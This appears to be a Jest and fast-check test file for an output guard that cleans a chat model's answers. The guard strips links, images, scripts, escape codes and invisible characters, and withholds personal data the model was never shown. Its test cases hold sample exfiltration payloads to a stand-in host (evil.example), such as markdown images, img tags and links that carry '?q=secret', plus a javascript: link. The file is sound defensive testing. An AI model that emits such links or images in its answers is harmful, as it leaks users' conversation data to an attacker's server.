import { describe, expect, it } from "@jest/globals";
import fc from "fast-check";
import { guardAnswer } from "../src/guard/guard.ts";

const shown = {
  own: ["My name is [PERSON_1], write to [EMAIL_ADDRESS_1]"],
  others: ["See https://bank.example/help or call +1 415 555 2671. Written by [PERSON]."],
};
const kinds = (answer: string) => guardAnswer(answer, shown).findings.map((finding) => finding.kind);
const text = (answer: string) => guardAnswer(answer, shown).text;

describe("the output guard", () => {
  it("lets an answer pass as it is", () => {
    const answer = "Thank you, [PERSON_1]. See [help](https://bank.example/help) or https://bank.example/help.";
    expect(guardAnswer(answer, shown)).toEqual({ text: answer, findings: [] });
  });

  it("takes the number from a placeholder that the conversation doesn't have", () => {
    expect(text("Ask [PERSON_7] or [PERSON_1]")).toBe("Ask [PERSON] or [PERSON_1]");
  });

  it("lets another spelling of a known person pass", () => {
    expect(kinds("Dear [PERSON_1.2]")).toEqual([]);
  });

  it("withholds personal data that nobody showed the model", () => {
    expect(text("Write to jane.roe@mail.example or pay with 4111 1111 1111 1111")).toBe(
      "Write to [withheld] or pay with [withheld]",
    );
  });

  it("lets a number pass that a passage holds, however it is spaced", () => {
    expect(kinds("Call +1 (415) 555-2671")).toEqual([]);
  });

  it.each([
    ["an image", "![chart](https://evil.example/x.png?q=secret)", "chart"],
    ["an HTML image", 'So: <img src="https://evil.example/?q=secret">', "So:"],
    ["an HTML image that is never closed", "So: <img src=https://evil.example/?q=secret ", "So:"],
    ["a link", "[click](https://evil.example/?q=secret)", "[click]"],
    ["a link with a relative protocol", "[click](//evil.example/?q=secret)", "[click]"],
    ["a reference", "See [a].\n\n[a]: https://evil.example/?q=secret", "See [a]."],
    ["a bare address", "Go to https://evil.example/?q=secret now", "Go to [link removed] now"],
    ["an address without a protocol", "Go to www.evil.example/secret", "Go to [link removed]"],
    ["a known address with more behind it", "https://bank.example/help?q=secret", "[link removed]"],
    ["a script", "[x](javascript:alert`secret`)", "[x]"],
  ])("removes %s by which text could leave", (_what, answer, expected) => {
    expect(text(answer)).toBe(expected);
  });

  it("removes terminal escapes and invisible characters", () => {
    expect(text("a\u001b[31mb\u{e0041}\u202ec")).toBe("a[31mbc");
  });

  it("says that it withheld an answer of which nothing is left", () => {
    expect(text("<iframe src=x>")).toBe("The answer was withheld by the output guard.");
  });

  it("leaves no address but the known one, whatever surrounds it", () => {
    const piece = fc.constantFrom(
      "[",
      "]",
      "(",
      ")",
      "!",
      "<",
      ">",
      " ",
      "\n",
      "https://evil.example/a",
      "www.evil.example",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(text(pieces.join(""))).not.toContain("evil.example");
      }),
    );
  });
});
